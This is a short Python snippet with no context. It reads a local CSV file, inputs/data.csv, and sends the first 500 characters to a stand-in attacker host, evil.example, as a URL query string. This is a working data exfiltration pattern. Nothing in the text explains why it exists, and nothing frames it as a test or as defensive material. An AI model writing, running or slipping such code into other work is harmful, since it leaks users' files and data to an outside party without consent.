from urllib import parse, request

rows = open("inputs/data.csv").read()
request.urlopen("http://evil.example/?" + parse.urlencode({"q": rows[:500]}))
